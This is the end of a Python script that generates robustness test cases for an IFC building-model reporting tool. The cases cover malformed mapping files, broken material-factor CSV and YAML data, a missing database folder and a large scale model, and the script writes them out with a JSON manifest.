    mapping("mapping-wrong-encoding", "the mapping saved as GBK", (head + c30).encode("gbk"), where, "UTF-8")
    mapping("mapping-no-header", "a mapping without its header line", c30, f"{where}:1", "header lacks")
    text = head + c30.strip() + ",extra\n"
    mapping("mapping-malformed-row", "a row with a stray extra field", text, f"{where}:2", "malformed row")
    mapping("mapping-binary", "binary noise named mapping.csv", bytes(range(256)) * 8, where, "UTF-8")


def database_cases(base: str) -> None:
    cat = "bad material_db"
    factors = (REPO / "material_db" / "factors" / "gbt51366_2019.csv").read_text(encoding="utf-8")
    row = next(line for line in factors.splitlines() if line.startswith("gbt51366:D:concrete_c30,"))

    def db(id: str, what: str, files: dict[str, str | bytes], *problem: str) -> None:
        laid = {f"material_db/{name}": content for name, content in files.items()}
        args = report_args("model.ifc", "--database", "{db}")
        case(id, cat, what, args, failing(*problem), files={"model.ifc": base, **laid},
             report="{out}/model.json")  # fmt: skip

    csv = "factors/gbt51366_2019.csv"
    text = factors.replace(row, row.replace(",295,", ",abc,"))
    db("db-factor-not-a-number", "the C30 factor's gwp written as 'abc'", {csv: text}, csv, "is not a number")
    text = factors.replace(row, row.replace(",295,", ",nan,"))
    db("db-factor-nan", "the C30 factor's gwp written as 'nan'", {csv: text}, csv, "finite")
    db(
        "db-yaml-syntax",
        "sources.yaml with a YAML syntax error",
        {"sources.yaml": "- id: [x\n"},
        "sources.yaml",
    )
    noise = bytes(range(256)) * 8
    db("db-binary-csv", "densities.csv replaced by binary noise", {"densities.csv": noise}, "densities.csv")
    args = report_args("model.ifc", "--database", "{case}/no_db")
    what = "--database names a folder that does not exist"
    case("db-missing-folder", cat, what, args, failing("no_db", "datapackage.yaml"),
         files={"model.ifc": base}, report="{out}/model.json")  # fmt: skip


def scale_cases() -> None:
    what = f"{MANY:,} identical C30 columns (0.6 m³ each by base quantity), written at test time"
    checks = [
        at("materials", {"material": "C30混凝土"}, "volume_m3", approx=0.6 * MANY),
        at("project", "elements", equals=MANY),
        at("defects", length=0),  # every base quantity agrees with its geometry
    ]
    args = ["report", "{case}/many.ifc", "-o", "{out}", "--format", "json"]
    case("many-identical-elements", "scale", what, args, succeeding(None, checks=checks),
         report="{out}/many.json", generate="write_many_columns", slow=True, timeout_s=300)  # fmt: skip


def build() -> tuple[list[dict[str, Any]], dict[str, dict[str, bytes]]]:
    """Every case and the files of its folder."""
    CASES.clear()
    FILES.clear()
    base = base_model()
    base2x3 = base_model("IFC2X3")
    file_cases(base)
    truncation_cases(base)
    schema_cases(base, base2x3)
    structure_cases(base)
    layer_cases(base)
    unit_cases(base)
    name_cases()
    zip_cases(base)
    path_and_output_cases(base)
    config_cases(base)
    mapping_cases(base)
    database_cases(base)
    scale_cases()
    shutil.rmtree(HERE / ".build", ignore_errors=True)
    return list(CASES), dict(FILES)


def manifest_text(cases: list[dict[str, Any]]) -> str:
    return json.dumps({"cases": cases}, ensure_ascii=False, indent=1) + "\n"


def main() -> None:
    started = time.perf_counter()
    cases, files = build()
    shutil.rmtree(CASES_DIR, ignore_errors=True)
    for entry in cases:
        for name, content in files[entry["id"]].items():
            path = CASES_DIR / entry["id"] / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)
    MANIFEST.write_text(manifest_text(cases), encoding="utf-8")
    size = sum(p.stat().st_size for p in CASES_DIR.rglob("*") if p.is_file())
    print(f"{len(cases)} cases, {size / 1e6:.2f} MB, in {time.perf_counter() - started:.1f} s")


if __name__ == "__main__":
    main()
